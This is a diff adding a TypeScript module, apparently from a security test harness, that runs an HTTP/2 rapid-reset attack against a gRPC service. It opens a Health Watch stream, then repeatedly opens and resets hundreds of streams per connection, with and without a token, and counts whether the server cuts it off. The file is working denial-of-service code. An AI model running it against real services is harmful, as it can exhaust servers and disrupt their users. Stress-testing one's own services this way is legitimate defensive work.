@@ -1,0 +1,101 @@
+// Opens streams only to reset them, 110 to 300 a connection, beside one Watch
+// that stays open: without credentials and with, in one packet or after their
+// answers began.
+import { type Attack, Counts, pause, pick } from "../support/attack.js";
+import {
+  dataFrame,
+  FRAME,
+  type FrameConnection,
+  grpcFields,
+  headersFrame,
+  openFrames,
+  resetFrame,
+} from "../support/frames.js";
+import { frame } from "../support/grpc.js";
+import type { Target } from "../support/world.js";
+
+const WATCH = "/grpc.health.v1.Health/Watch";
+const LIST = "/chainguard.platform.iam.v2beta1.GroupsService/ListGroups";
+const EMPTY = frame(new Uint8Array());
+/** Open at once, below what a session allows. */
+const BATCH = 90;
+const ROUNDS = 36;
+const ROUND_MS = 150;
+const FIRST_ANSWER_MS = 5_000;
+
+/** The shapes of a round. */
+export const SHAPES = ["in one packet", "after their answers began", "with lists under way"] as const;
+
+export const attack: Attack = {
+  async run(target, stop) {
+    const counts = new Counts();
+    for (let round = 0; !stop.aborted; round++) {
+      await resetRound(target, round, counts, stop);
+      await pause(ROUND_MS, stop);
+    }
+    if ((counts.done.rounds ?? 0) < ROUNDS) counts.problem(`only ${counts.done.rounds ?? 0} rounds`);
+    return counts;
+  },
+};
+
+/** One connection: a Watch that is answered, then resets until the cut or their number is reached. */
+export async function resetRound(
+  { url, addresses, token }: Pick<Target, "url" | "addresses" | "token">,
+  round: number,
+  counts: Counts,
+  stop: AbortSignal,
+): Promise<void> {
+  const shape = pick(SHAPES, round);
+  const resets = 110 + ((round * 53) % 191);
+  const connection = openFrames(url, pick(addresses, round));
+  try {
+    await connection.ready;
+    connection.send(headersFrame(1, grpcFields(url, WATCH)), dataFrame(1, EMPTY, true));
+    if (!(await isAnswered(connection, 1, stop))) {
+      if (!stop.aborted) counts.problem("a Watch is not answered");
+      return;
+    }
+    let stream = 3;
+    for (let left = resets; left > 0 && !connection.isClosed; left -= BATCH) {
+      const streams = Array.from({ length: Math.min(left, BATCH) }, (_, i) => stream + 2 * i);
+      stream += 2 * streams.length;
+      // Every second one of the lists has a token; refusals are resets of another kind.
+      const path = shape === "with lists under way" ? LIST : WATCH;
+      const open = streams.flatMap((id, i) => {
+        const fields = grpcFields(url, path, shape === "with lists under way" && i % 2 === 0 ? token : undefined);
+        return [headersFrame(id, fields), dataFrame(id, EMPTY, true)];
+      });
+      const cut = streams.map((id) => resetFrame(id));
+      if (shape === "after their answers began") {
+        connection.send(...open);
+        await isAnswered(connection, streams.at(-1) ?? 0, stop);
+        connection.send(...cut);
+      } else connection.send(...open, ...cut);
+      counts.add("resets", streams.length);
+      await pause(1, stop);
+    }
+    await pause(50, stop);
+    counts.add("rounds");
+    if (connection.goaway !== undefined || connection.isClosed) counts.add("cut");
+  } catch {
+    counts.add("not connected");
+  } finally {
+    connection.close();
+  }
+}
+
+function isAnswered(connection: FrameConnection, stream: number, stop: AbortSignal): Promise<boolean> {
+  return new Promise((resolve) => {
+    const done = (answered: boolean) => {
+      clearTimeout(timer);
+      connection.onFrame = undefined;
+      resolve(answered);
+    };
+    const timer = setTimeout(() => done(false), FIRST_ANSWER_MS);
+    stop.addEventListener("abort", () => done(false), { once: true });
+    connection.onFrame = (frame) => {
+      if (frame.stream === stream && (frame.type === FRAME.data || frame.type === FRAME.reset)) done(true);
+      if (frame.type === FRAME.goaway) done(false);
+    };
+  });
+}
